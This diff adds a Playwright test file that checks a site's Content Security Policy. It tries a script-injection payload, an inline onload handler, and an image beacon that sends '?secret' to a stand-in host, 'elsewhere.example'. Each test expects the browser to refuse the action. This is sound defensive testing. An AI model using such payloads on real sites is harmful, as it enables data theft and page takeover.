@@ -1,0 +1,118 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures'
+import { openAlive } from './openAlive'
+
+/** Does it in the page and tells which directive refused it. */
+async function refusedBy(page: Page, act: () => void): Promise<string> {
+  const refused = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+          once: true,
+        })
+      }),
+  )
+  await page.evaluate(act)
+  return refused
+}
+
+test.describe('what the pages promise, the browser enforces', () => {
+  test.use({ expectedComplaints: [/Content Security Policy/] })
+
+  test.beforeEach(async ({ page }) => {
+    await openAlive(page, '/contact')
+  })
+
+  test('no script can send anything anywhere, the site’s own host included', async ({ page }) => {
+    expect(
+      await refusedBy(page, () => {
+        fetch('/jobs').catch(() => {})
+      }),
+    ).toBe('connect-src')
+    expect(
+      await refusedBy(page, () => {
+        navigator.sendBeacon('/', 'x')
+      }),
+    ).toBe('connect-src')
+    expect(
+      await refusedBy(page, () => {
+        new Image().src = 'https://elsewhere.example/?secret'
+      }),
+    ).toBe('img-src')
+  })
+
+  test('no form can be sent, even past the app', async ({ page }) => {
+    expect(
+      await refusedBy(page, () => {
+        document.querySelector('form')?.submit()
+      }),
+    ).toBe('form-action')
+    expect(await page.evaluate(() => `${window.location.pathname}${window.location.search}`)).toBe('/contact')
+  })
+
+  test('no script runs but the site’s own', async ({ page }) => {
+    expect(
+      await refusedBy(page, () => {
+        const script = document.createElement('script')
+        script.text = 'document.title = "taken over"'
+        document.body.append(script)
+      }),
+    ).toBe('script-src-elem')
+    expect(
+      await refusedBy(page, () => {
+        document.body.insertAdjacentHTML(
+          'beforeend',
+          '<img src="/favicon.svg" alt="" onload="document.title = 1">',
+        )
+      }),
+    ).toBe('script-src-attr')
+    await expect(page).toHaveTitle('Contact Us – Cairnway')
+  })
+})
+
+test.describe('on a host that sends no headers of ours', () => {
+  test.use({ expectedComplaints: [/Content Security Policy|status of 404/] })
+
+  test('the pages themselves carry the policy, ahead of all that it governs', async ({ page }) => {
+    await page.route(/^[^.]*$/, async (route) => {
+      const response = await route.fetch()
+      await route.fulfill({
+        status: response.status(),
+        contentType: 'text/html',
+        body: await response.text(),
+      })
+    })
+    for (const address of ['/', '/jobs?search=data', '/jobs/1', '/about', '/nope']) {
+      await openAlive(page, address)
+      expect(
+        await refusedBy(page, () => {
+          fetch('/jobs').catch(() => {})
+        }),
+      ).toBe('connect-src')
+    }
+  })
+})
+
+test('data for search engines stands in a page without a complaint', async ({ page }) => {
+  await page.route('/about', async (route) => {
+    const response = await route.fetch()
+    const data = '<script type="application/ld+json">{"@type":"Organization"}</script>'
+    await route.fulfill({ response, body: (await response.text()).replace('</head>', `${data}</head>`) })
+  })
+  await openAlive(page, '/about')
+  await expect(page.locator('script[type="application/ld+json"]')).toHaveCount(1)
+})
+
+test('nobody can show the site in a frame', async ({ page, baseURL }) => {
+  const response = await page.goto('/')
+  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
+  await page.route('https://elsewhere.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/jobs"></iframe>` }),
+  )
+  test
+    .info()
+    .annotations.push({ type: 'note', description: 'Chromium shows its own error page in the frame.' })
+  await page.goto('https://elsewhere.example/')
+  // Chromium's own error page.
+  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
+})
